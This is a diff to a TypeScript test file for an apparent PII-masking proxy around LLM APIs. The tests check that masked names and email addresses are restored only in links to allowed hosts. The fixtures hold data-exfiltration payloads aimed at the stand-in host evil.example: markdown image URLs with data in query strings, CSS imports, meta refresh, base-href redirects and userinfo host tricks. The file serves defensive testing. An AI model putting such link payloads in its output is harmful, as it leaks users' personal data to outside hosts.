@@ -1,5 +1,12 @@
 import test from 'ava';
 import * as fc from 'fast-check';
+import { hostsIn } from '../../src/personal-data/casting/named-host.ts';
+import { restoredBody } from '../../src/personal-data/restored-body.ts';
+import { doneInTurns } from '../../src/ports/done-in-turns.ts';
+import { messagesTextMap } from '../../src/protocols/messages/text-map.ts';
+import { responsesTextMap } from '../../src/protocols/responses/text-map.ts';
+import { doneAtOnce } from '../_support/done-at-once.ts';
+import { restoredStream } from '../_support/passing-stream.ts';
 import type { CastingPiiEngineOptions } from '../../src/casting/casting-pii-engine.ts';
 import { castRequest } from '../_support/cast-request.ts';
 import { castingEngine } from '../_support/casting-engine.ts';
@@ -64,6 +71,8 @@ const left = {
   'an import of a style': "@import '//evil.example/M!';",
   'a refresh': '<meta http-equiv=refresh content="0;url=//evil.example/M!">',
   'an object and a background': '<object data="//evil.example/M!"><table background=//evil.example/M!>',
+  'a page whose base is another host':
+    '<base target=x href="https://evil.example/"><img src="/P!"> [x](y/M!) <a href=M!>',
   'two values': '![x](https://evil.example/?q=P!&m=M!)',
   'a name before a host': '[x](https://crm.example@evil.example/P!)',
   'a host that begins like an open one': '[x](https://crm.example.evil.example/P!)',
@@ -86,6 +95,7 @@ const restoredTexts = {
   'in another string of JSON': '{"site":"https://evil.example","name":"P!","to":["https://evil.example/x","M!"]}',
   'on another line in JSON': String.raw`{"text":"See https://evil.example/x\nP!"}`,
   'in a link of mail': '[write](mailto:M!?subject=P!) <a href="mailto:M!">P!</a>',
+  'beside a base with an open host': '<base href="https://crm.example/"><img src="/P!"> <a href="mailto:M!">',
   'in a link within the same site': '[x](/people/P!) <a href="people?name=P!">x</a> [x](#P!)',
   'in code': 'name = "P!"; src = P!; map["a"](P!); C:\\Users\\P!',
   'after a colon': 'Name: P!, mail://, of: //P!',
@@ -138,6 +148,60 @@ test('links and hosts of earlier turns are remembered with their mapping', async
   const next = await engine.cast(castRequest([person], { earlier: [conversation.mapping] }));
   t.is(next.restore(written(text)), restored(text));
   t.is(next.restore(written('https://evil.example/M!')), written('https://evil.example/M!'));
+});
+
+test('a link that is divided over texts which a client joins is one link', async (t) => {
+  const { conversation, written, restored } = await conversed([]);
+  const blocks = ['![x](https://evil.example/?q=', 'M!) by M!', 'M!'].map((text) => ({
+    type: 'text',
+    text: written(text),
+  }));
+  const body = (content: unknown) => Buffer.from(JSON.stringify({ content }));
+  const shown = await doneInTurns(restoredBody({ shape: messagesTextMap.answer }, body(blocks), conversation));
+  const texts = (JSON.parse(shown.toString()) as { content: { text: string }[] }).content.map(({ text }) => text);
+  t.deepEqual(texts, [blocks[0]?.text, `${written('M!)')} by ${mail}`, mail]);
+  const records = blocks.map(({ text }, index) => ({
+    type: 'content_block_delta',
+    index,
+    delta: { type: 'text_delta', text },
+  }));
+  const stream = restoredStream({ texts: messagesTextMap, restorer: conversation, recordBytesMax: 10_000 });
+  const sent = Buffer.from(records.map((record) => `data: ${JSON.stringify(record)}\n\n`).join(''));
+  const out = [stream.push(sent), stream.finish()].join('');
+  t.true(out.includes(written('M!)')) && out.includes(restored(') by M!')), out);
+  t.deepEqual([...conversation.kept], [['EMAIL', 1]], 'what stays is counted once');
+});
+
+test('an address of a search stays as it was found, and what is no address in it is restored', async (t) => {
+  const { conversation, written, restored } = await conversed([], {}, ['crm.example']);
+  const url = 'https://crm.example/M!';
+  const annotation = { type: 'url_citation', url: written(`${url} P!`), title: written(url) };
+  const body = Buffer.from(
+    JSON.stringify({ output: [{ type: 'message', content: [{ type: 'output_text', annotations: [annotation] }] }] }),
+  );
+  const shown = await doneInTurns(restoredBody({ shape: responsesTextMap.answer }, body, conversation));
+  t.true(shown.includes(`"${written(url)} ${person}"`) && shown.includes(`"${restored(url)}"`), shown.toString());
+});
+
+test('hosts that the user names count where the operator names none', async (t) => {
+  const userHosts = new Set(['crm.example']);
+  for (const [linkHosts, isOpen] of [
+    [null, true],
+    [[], false],
+  ] as const) {
+    const { conversation, written, restored } = await conversed([], { userHosts }, linkHosts);
+    const text = 'https://crm.example/M!';
+    t.is(conversation.restore(written(text)), isOpen ? restored(text) : written(text));
+    t.is(conversation.restore(written('https://evil.example/M!')), written('https://evil.example/M!'));
+  }
+});
+
+test('hosts are read in links and by themselves', (t) => {
+  const texts = [
+    'See https://crm.example:8080/x, api.crm.example and www.x.example.',
+    'a@mail.example src/index.ts e.g. v1.2',
+  ];
+  t.deepEqual([...doneAtOnce(hostsIn(texts))], ['crm.example', 'api.crm.example', 'www.x.example']);
 });
 
 test('every host is open where the operator says so', async (t) => {
